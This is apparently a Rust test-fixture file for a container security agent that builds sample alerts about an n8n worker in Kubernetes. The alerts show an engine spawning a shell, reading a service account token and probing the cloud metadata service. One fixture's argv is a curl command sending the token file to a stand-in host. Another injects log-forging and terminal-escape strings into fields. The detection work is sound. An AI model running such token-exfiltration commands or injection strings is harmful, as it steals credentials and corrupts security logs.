//! Alerts for tests of this room and of the sinks.

use super::*;

/// The second alert of an incident: a shell from the engine, then a service account token read.
pub(crate) fn incident() -> Alert {
    Alert {
        schema: ALERT_SCHEMA.into(),
        id: "0b6f3d1e-6d3a-5b0e-9f3d-6f3a1f6b2c11".into(),
        time: "2026-11-23T20:40:01.123456789Z".into(),
        kind: AlertKind::Incident,
        state: State::Update,
        closed_by: None,
        tier: Some(Tier::Identity),
        severity: Severity::of(Tier::Identity),
        test: false,
        title: "Engine started a shell, then read a service account token".into(),
        incident: Some(Incident {
            id: "8f3ac2d4e5f60718".into(),
            revision: 2,
            run_key: "author:9a1b".into(),
            first: "2026-11-23T20:39:59.000000001Z".into(),
            last: "2026-11-23T20:40:01.123456789Z".into(),
            findings: 2,
            new: vec!["unexpected-identity".into()],
            chain: vec![
                link(Tier::Boundary, "shell-from-engine", "2026-11-23T20:39:59.000000001Z", "/bin/dash"),
                link(Tier::Identity, "unexpected-identity", "2026-11-23T20:40:01.123456789Z", TOKEN),
            ],
            unlisted: None,
            closure: None,
        }),
        finding: Some(FindingInfo {
            id: "unexpected-identity".into(),
            kind: "expectation".into(),
            signal: "open".into(),
            outcome: "ok".into(),
            certainty: "known".into(),
            hook: "tracepoint/open".into(),
            rule: Some(RuleRef { file: "profiles/n8n.yaml".into(), line: 41 }),
            also: vec![],
            expected: Some("role runner of profile n8n reads no identity".into()),
        }),
        gap: None,
        posture: None,
        health: None,
        heartbeat: None,
        worker: Some(WorkerInfo {
            name: "lab-n8n".into(),
            engine: Some("n8n".into()),
            profile: "n8n".into(),
            cgroup: CgroupInfo { id: 4711, path: "/lab/n8n".into() },
            ..Default::default()
        }),
        attribution: Some(Attribution {
            run: Some(Attributed { value: "4242".into(), source: "env RUN_ID".into(), trust: "engine".into() }),
            ..Default::default()
        }),
        process: Some(ProcessInfo {
            key: "5f1c9b0e:123456789:4242".into(),
            pid: 4242,
            ns_pid: Some(12),
            ppid: Some(4240),
            start: Some("2026-11-23T20:39:58.900000000Z".into()),
            exe: Some("/usr/bin/curl".into()),
            argv: Some(
                ["curl", "-H", "Authorization: Bearer abcdef123456", "--data", "@/var/run/token", "https://h.example"]
                    .map(String::from)
                    .to_vec(),
            ),
            cwd: Some("/home/node".into()),
            uid: Some(1000),
            role: Some("descendant".into()),
            ancestors: vec![
                Ancestor { pid: 4240, exe: Some("/bin/dash".into()), role: Some("stray".into()) },
                Ancestor { pid: 4001, exe: Some("/usr/local/bin/node".into()), role: Some("engine".into()) },
            ],
        }),
        file: Some(FileInfo {
            path: Some(TOKEN.into()),
            flags: vec!["read".into()],
            identity: Some("k8s-service-account-token".into()),
            ..Default::default()
        }),
        network: None,
        blast_radius: Some(BlastRadius {
            taken: vec![Taken {
                identity: "k8s-service-account-token".into(),
                gives: Some("the pod's Kubernetes service account".into()),
                respond: "Revoke: delete the pod once its state is preserved (the token is bound to it). Review: search the API audit log by pod.".into(),
                from: None,
            }],
            used: vec!["npm-token".into()],
            reachable: vec!["n8n-encryption-key".into()],
            environment: vec!["DB_POSTGRESDB_PASSWORD".into()],
            contacted: vec!["cloud-metadata (169.254.169.254:80): established".into()],
            rotation: [
                ("k8s-service-account-token", "taken"),
                ("npm-token", "used"),
                ("$DB_POSTGRESDB_PASSWORD", "environment"),
                ("n8n-encryption-key", "reachable"),
            ]
            .map(|(what, because)| Rotate { what: what.into(), because: because.into() })
            .into(),
        }),
        evidence: Some(Evidence {
            events: vec![PastEvent {
                time: "2026-11-23T20:39:58.000000001Z".into(),
                pid: 4001,
                signal: "connect".into(),
                object: "10.0.0.7:5432".into(),
                argv: None,
                outcome: Some("attempted".into()),
            }],
            tree: vec![TreeProcess {
                pid: 4001,
                ppid: Some(3990),
                exe: Some("/usr/local/bin/node".into()),
                argv: Some(["node", "/usr/local/bin/n8n", "--token", "abcdef123456"].map(String::from).to_vec()),
                role: Some("engine".into()),
                uid: Some(1000),
                start: Some("2026-11-23T08:00:00.000000000Z".into()),
            }],
            more_processes: None,
        }),
        refs: [("attack", "T1528"), ("owasp_nhi", "NHI8")]
            .map(|(catalogue, id)| (catalogue.to_owned(), vec![id.to_owned()]))
            .into(),
        respond: vec!["Contain: freeze the worker".into(), "Preserve: keep the pod and this alert's evidence".into()],
        allow_with: None,
        host: HostInfo {
            name: "node-7".into(),
            cluster: Some("prod-eu".into()),
            machine_id: Some("c0ffee".into()),
            boot_id: Some("5f1c9b0e".into()),
            kernel: "6.12.0".into(),
            clock_synced: None,
        },
        environment: Some("production".into()),
        labels: [("team".to_owned(), "platform".to_owned())].into(),
        agent: AgentInfo { version: "0.1.0".into(), rules: "sha256:0000".into() },
        delivery: None,
        truncated: vec![],
    }
}

/// A gap: events of the priority lane were lost.
pub(crate) fn gap() -> Alert {
    Alert {
        kind: AlertKind::Gap,
        state: State::Open,
        tier: None,
        severity: Severity::Medium,
        title: "Worker lab-n8n sent more than its budget; 120 events were not looked at".into(),
        incident: None,
        finding: None,
        gap: Some(GapInfo {
            reason: "throttled".into(),
            lane: Some("priority".into()),
            from: "2026-11-23T20:40:00.000000000Z".into(),
            to: Some("2026-11-23T20:40:01.000000000Z".into()),
            lost: Some(120),
            ..Default::default()
        }),
        attribution: None,
        process: None,
        file: None,
        blast_radius: None,
        evidence: None,
        refs: Refs::new(),
        respond: vec![],
        ..incident()
    }
}

const TOKEN: &str = "/run/secrets/kubernetes.io/serviceaccount/..data/token";

fn link(tier: Tier, finding: &str, time: &str, object: &str) -> ChainLink {
    ChainLink {
        tier,
        finding: finding.into(),
        time: time.into(),
        process: "5f1c9b0e:123456789:4242".into(),
        role: Some("engine".into()),
        title: None,
        object: Some(object.into()),
        outcome: None,
        rule: Some(RuleRef { file: "detections/exec.yaml".into(), line: 7 }),
        also: vec![],
        repeats: None,
        last: None,
    }
}

/// One alert of every kind, tier and state, with a name.
pub(crate) fn all() -> Vec<(&'static str, Alert)> {
    let tier = |tier: Tier, state: State| Alert {
        tier: Some(tier),
        severity: Severity::of(tier),
        state,
        ..incident()
    };
    let health = HealthInfo {
        condition: "rules-refused".into(),
        subject: None,
        detail: "detections/exec.yaml:41: unknown key \"mach\"; did you mean \"match\"?".into(),
    };
    let condition = |kind: AlertKind, title: &str| Alert { kind, title: title.into(), gap: None, ..gap() };
    vec![
        ("deviation", tier(Tier::Deviation, State::Open)),
        ("boundary", connect()),
        ("identity", incident()),
        ("objective", tier(Tier::Objective, State::Update)),
        ("ended", tier(Tier::Identity, State::Ended)),
        ("closed by a person", closed()),
        (
            "closed by quiet",
            Alert { closed_by: Some(ClosedBy::Quiet), ..tier(Tier::Boundary, State::Closed) },
        ),
        ("test", Alert { test: true, title: "Test alert".into(), ..incident() }),
        ("hostile", hostile()),
        ("gap", gap()),
        (
            "gap over",
            Alert {
                state: State::Closed,
                closed_by: Some(ClosedBy::Recovered),
                severity: Severity::Info,
                ..gap()
            },
        ),
        (
            "posture",
            Alert {
                posture: Some(privileged()),
                severity: Severity::High,
                ..condition(
                    AlertKind::Posture,
                    "Worker lab-n8n is privileged: its author reaches the host, and 1 more",
                )
            },
        ),
        (
            "health",
            Alert {
                health: Some(health),
                worker: None,
                ..condition(AlertKind::Health, "Changed rule files were refused; the old rules stay in force")
            },
        ),
        ("heartbeat", heartbeat()),
    ]
}

fn privileged() -> PostureInfo {
    let item = |id: &str, severity, title: &str, detail: Option<&str>| PostureItem {
        id: id.into(),
        title: title.into(),
        severity,
        reaches_host: severity == Severity::High,
        detail: detail.map(str::to_owned),
        rule: Some(RuleRef { file: "posture.yaml".into(), line: 7 }),
    };
    PostureInfo {
        condition: "0b6f3d1e-6d3a-5b0e-9f3d-6f3a1f6b2c12".into(),
        reaches_host: true,
        findings: vec![
            item("privileged-worker", Severity::High, "is privileged: its author reaches the host", None),
            item(
                "host-path-mounted",
                Severity::Low,
                "has a folder of the host",
                Some("mounted /data (the host's /srv/data), writable"),
            ),
        ],
        new: vec!["privileged-worker".into()],
        over: vec![],
        unknown: vec!["block-devices-visible".into()],
    }
}

/// A sign of life, as short as the agent makes it.
pub(crate) fn heartbeat() -> Alert {
    let mut alert = whole_heartbeat();
    alert.host.kernel.clear();
    alert.host.boot_id = None;
    (alert.environment, alert.labels) = (None, Default::default());
    alert
}

fn whole_heartbeat() -> Alert {
    Alert {
        kind: AlertKind::Heartbeat,
        severity: Severity::Info,
        title: "Alive".into(),
        gap: None,
        worker: None,
        heartbeat: Some(HeartbeatInfo {
            every: 300,
            uptime: 86_400,
            coverage: Some("partial:1f0c9b7a5d3e2810".into()),
            lost: LostCounts { events: 3, throttled: 120, alerts: 0 },
            log: Some("4711:9f86d081884c7d659a2feaa0c55ad015".into()),
        }),
        ..gap()
    }
}

/// A connect from a pod to the metadata service, refused: everything that `incident` has not.
pub(crate) fn connect() -> Alert {
    let mut alert = incident();
    alert.tier = Some(Tier::Boundary);
    alert.severity = Severity::of(Tier::Boundary);
    alert.state = State::Open;
    alert.title = "Author code asked the cloud's metadata service for credentials".into();
    alert.file = None;
    alert.network = Some(NetworkInfo {
        protocol: "tcp".into(),
        address: "169.254.169.254".into(),
        port: Some(80),
        endpoint: Some("cloud-metadata".into()),
        address_stage: Some("after".into()),
        result: Some("refused".into()),
    });
    if let Some(finding) = &mut alert.finding {
        finding.id = "metadata-service".into();
        finding.kind = "detection".into();
        finding.signal = "connect".into();
        finding.outcome = "denied".into();
        finding.certainty = "role".into();
        finding.also = vec![AlsoInfo {
            finding: "unexpected-connect".into(),
            kind: "expectation".into(),
            tier: Tier::Deviation,
            rule: Some(RuleRef { file: "profiles/n8n.yaml".into(), line: 77 }),
        }];
    }
    if let Some(worker) = &mut alert.worker {
        worker.container = Some(ContainerInfo {
            id: "56883920c0ffee".into(),
            runtime: Some("containerd".into()),
            image: Some("docker.io/n8nio/n8n:1.99".into()),
        });
        worker.pod = Some(PodInfo {
            namespace: "flows".into(),
            name: "n8n-worker-0".into(),
            uid: "6c296cf0-94d7-43f6-bfb0-d99da865208f".into(),
            labels: [("app.kubernetes.io/name".to_owned(), "n8n".to_owned())].into(),
            owner: Some("StatefulSet/n8n-worker".into()),
            service_account: Some("n8n".into()),
        });
        worker.node = Some("node-7.example".into());
    }
    if let Some(who) = &mut alert.attribution {
        let said = |value: &str| {
            Some(Attributed { value: value.into(), source: "label".into(), trust: "controller".into() })
        };
        who.workflow = said("nightly-report");
        who.step = said("fetch");
        who.actor = said("alice");
        who.tenant = said("finance");
    }
    alert.refs.insert("attack".into(), vec!["T1552.005".into(), "T1552".into()]);
    alert.allow_with = None;
    alert.evidence = None;
    alert.blast_radius = None;
    alert
}

fn closed() -> Alert {
    let mut alert = incident();
    alert.state = State::Closed;
    alert.closed_by = Some(ClosedBy::Operator);
    if let Some(incident) = &mut alert.incident {
        incident.closure = Some(Closure {
            by: "alice".into(),
            reason: "pen test, token rotated | a=b\\c".into(),
            time: "2026-11-23T21:00:00.000000000Z".into(),
        });
    }
    alert
}

/// Texts that would end a field, a line, or steer a terminal.
fn hostile() -> Alert {
    const TEXT: &str = "a|b=c\\d\"e\nf\rg\th\x1b[2Ji\u{202e}j\u{0}k severity=0 cs1=forged ";
    let mut alert = incident();
    alert.title = format!("Engine ran {TEXT}");
    alert.labels.insert("app.kind/of".into(), TEXT.into());
    if let Some(worker) = &mut alert.worker {
        worker.name = TEXT.into();
    }
    if let Some(process) = &mut alert.process {
        process.exe = Some(format!("/tmp/{TEXT}"));
        process.argv = Some(vec!["sh".into(), "-c".into(), TEXT.into(), String::new()]);
        process.cwd = Some(TEXT.into());
    }
    if let Some(file) = &mut alert.file {
        file.path = Some(format!("/tmp/{TEXT}/"));
    }
    if let Some(who) = &mut alert.attribution {
        who.run = Some(Attributed { value: TEXT.into(), source: "env RUN".into(), trust: "author".into() });
    }
    alert
}
